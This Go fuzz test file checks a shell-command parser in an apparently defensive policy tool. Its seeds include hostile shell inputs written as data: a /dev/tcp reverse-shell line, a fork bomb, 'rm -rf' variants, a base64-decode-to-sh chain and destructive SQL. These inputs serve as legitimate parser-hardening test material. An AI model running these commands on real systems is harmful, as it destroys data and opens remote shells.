package shell

import (
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/sluice-project/sluice/policy/command"
	"github.com/sluice-project/sluice/policy/follow"
	"github.com/sluice-project/sluice/policy/invocation"
	"github.com/sluice-project/sluice/policy/output"

	"github.com/sluice-project/sluice/policy/effect"
)

// seeds are texts of all kinds to begin with.
func seeds(f *testing.F) {
	f.Helper()
	for _, seed := range []string{
		"", "ls -la", "a; b && c | d", `sh -c "sh -c 'rm $x'"`, "echo $(a `b` $((1+2)) ${x:-$(y)})",
		"cat <<E; bash <<'F'\n$(x)\nE\nrm\nF\n", "case a in b) c;; esac", "for x in a; do b; done | sh",
		"[[ a && b ]]", "f() { x; }; f", "a=(b $(c)); ${a[1]}", "sudo -u x env A=1 timeout 5 rm -rf $'\\x41'", "find . -exec sh -c x {} \\;",
		"ssh h 'a; b'", "((((((((((", "${${${${", "a=(a=(a=(a=(", "$(($(($((", "\\", "'", "\"$(\"", "<<", "<<<", ">&", "&>>", "x=1 >y",
		"{a,b}{1..9} *?[x]", "exec 3<>/dev/tcp/h/1; sh <&3 >&3", "printf '%s' x | base64 -d | tr a-z b | rev | xxd -r -p | sh", "declare -n a=b; local x=${!a}; echo ${x//a/b} ${x##*/} ${x:1:-1} ${x^^}",
		"cat > f <<E\nrm $1\nE\nsh f /", "alias x='rm -rf'; x /", ":(){ :|:& };:", "parallel rm ::: a b", "echo a | xargs -I{} sh -c 'rm {}'", "set -- a b; shift; rm \"$@\"",
		"coproc a { b; }; time ! c", "fish -c 'for x in a; rm $x; end'", "! ! a", "<<0&\n1", "alias =0;00\x80000000000000", "a\x00b\xff", "export A=1 PATH=.:$PATH", "cd a; popd; cd $X/..; rm -rf *",
		`python3 -c 'import os; os.system("rm x")'`, `awk '{ system("rm " $1) }' f`, `psql -c "delete from a; drop table b"`, "sed -i 's/a/b/e' f", `node -e 'require("child_process").exec("ls")'`,
	} {
		f.Add(seed)
	}
	for _, h := range hostile {
		f.Add(h.make(64))
	}
}

// sound checks what holds of every reading.
func sound(t *testing.T, r *invocation.Reading) {
	t.Helper()
	if len(r.Commands) > invocation.MaxCommands || len(r.Effects) > invocation.MaxEffects {
		t.Fatalf("%d commands, %d effects", len(r.Commands), len(r.Effects))
	}
	if slices.Contains(r.Unknown, "") || len(slices.Compact(slices.Sorted(slices.Values(r.Unknown)))) != len(r.Unknown) {
		t.Fatalf("reasons %q", r.Unknown)
	}
	for i := range r.Commands {
		c := &r.Commands[i]
		if c.Depth < 0 || c.Depth > invocation.MaxDepth {
			t.Fatalf("%q is %d deep", c.Text, c.Depth)
		}
		c.Has("-x")
		c.Flag("x")
		c.Operands("x")
	}
	for i := range r.Effects {
		e := &r.Effects[i]
		if !slices.Contains(effect.Verbs(), e.Verb) || e.Command < -1 || e.Command > len(r.Commands) {
			t.Fatalf("%+v of %d commands", e, len(r.Commands))
		}
	}
}

// Whatever a text holds, it is read within its budget, to a result within the
// limits, and to the same one again.
func FuzzRead(f *testing.F) {
	seeds(f)
	f.Fuzz(func(t *testing.T, text string) {
		r := newReader(place, len(text))
		all := r.Budget
		r.Inner(text, invocation.Origin{}, invocation.Flow{})
		r.Reading.Left = r.Outermost.Dir
		r.leftovers()
		output.Tells(&r.Reader)
		if r.Budget < 0 || r.Budget > all || r.Units < 0 {
			t.Fatalf("%d of %d steps and %d units are left", r.Budget, all, r.Units)
		}
		once := r.read()
		sound(t, &once)
		if again := Read(text, place); !reflect.DeepEqual(again, once) {
			t.Fatalf("%q is %+v,\nthen %+v", text, once, again)
		}
	})
}

func FuzzReadArgs(f *testing.F) {
	seeds(f)
	f.Fuzz(func(t *testing.T, text string) {
		argv := strings.Split(text, " ")
		r := ReadArgs(slices.Clone(argv), place)
		sound(t, &r)
		if again := ReadArgs(argv, place); !reflect.DeepEqual(again, r) {
			t.Fatalf("%q is %+v,\nthen %+v", argv, r, again)
		}
	})
}

// Words that are no words of the shell do the same in every wrapping.
func FuzzWrapped(f *testing.F) {
	for i, c := range wrapped {
		f.Add(c, uint8(i), uint8(3*i))
	}
	f.Fuzz(func(t *testing.T, text string, a, b uint8) {
		words := strings.Fields(text)
		if len(words) == 0 || len(words) > 16 || len(text) > 200 || !withoutSigns(text) || !isLetter(text[0]) || shellsOwn(words[0]) {
			return
		}
		same(t, strings.Join(words, " "), wrappings[int(a)%len(wrappings)], wrappings[int(b)%len(wrappings)])
	})
}

// withoutSigns reports whether a text has no signs that mean something else where it
// stands in another place.
func withoutSigns(text string) bool {
	for i := range len(text) {
		if c := text[i]; c != ' ' && c != '/' && c != '.' && c != '-' && !invocation.IsNameByte(c) {
			return false
		}
	}
	return true
}

func isLetter(c byte) bool { return 'a' <= c && c <= 'z' }

// shellsOwn reports whether a word is one of the shell's own, or runs a command in a
// way that changes it: a shell that is given nothing to run is a grant when it is
// another user's.
func shellsOwn(word string) bool {
	word = invocation.BaseName(word)
	p := command.Builtin().Program(word)
	return p != nil && p.Wraps() || follow.IsShell(word) || slices.Contains(strings.Fields("if then else elif fi for in do done while until case esac select function coproc time let declare typeset local export readonly nameref su ssh mosh source return exit break continue eval exec trap set shift read unset alias unalias cd pushd popd getopts hash f i x true wait jobs"), word)
}
